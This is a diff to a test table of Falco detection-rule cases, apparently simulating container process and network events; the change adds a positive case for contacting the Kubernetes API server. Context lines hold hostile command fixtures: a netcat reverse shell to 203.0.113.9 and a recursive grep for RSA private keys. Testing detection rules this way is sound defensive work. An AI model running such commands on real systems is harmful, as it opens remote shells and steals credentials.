@@ -175,7 +175,9 @@ FALCO_CASES = [
     ("system_user_interactive.neg", "System user interactive", False, [exe("bash", path="/bin/bash", proc=SHELL_PARENT_SSHD, container=False)]),
     ("terminal_shell.pos", "Terminal shell in container", True, [exe("bash", path="/bin/bash", proc=RUNC_PARENT | {"tty": 34816})]),
     ("terminal_shell.neg", "Terminal shell in container", False, [exe("bash", path="/bin/bash", proc=RUNC_PARENT | {"tty": 0})]),
-    ("k8s_api.neg", "Contact K8S API Server From Container", False, [conn("10.96.0.1", 443)]),
+    # The corpus engine resolves kubernetes.default.svc.cluster.local to 10.96.0.1 only.
+    ("k8s_api.pos", "Contact K8S API Server From Container", True, [conn("10.96.0.1", 443)]),
+    ("k8s_api.neg", "Contact K8S API Server From Container", False, [conn("10.96.0.2", 443)]),
     ("netcat_rce.pos", "Netcat Remote Code Execution in Container", True, [exe("nc", ["-e", "/bin/sh", "203.0.113.9", "4444"])]),
     ("netcat_rce.neg", "Netcat Remote Code Execution in Container", False, [exe("nc", ["-z", "db", "5432"])]),
     ("search_keys.pos", "Search Private Keys or Passwords", True, [exe("grep", ["-r", "BEGIN RSA PRIVATE", "/"])]),
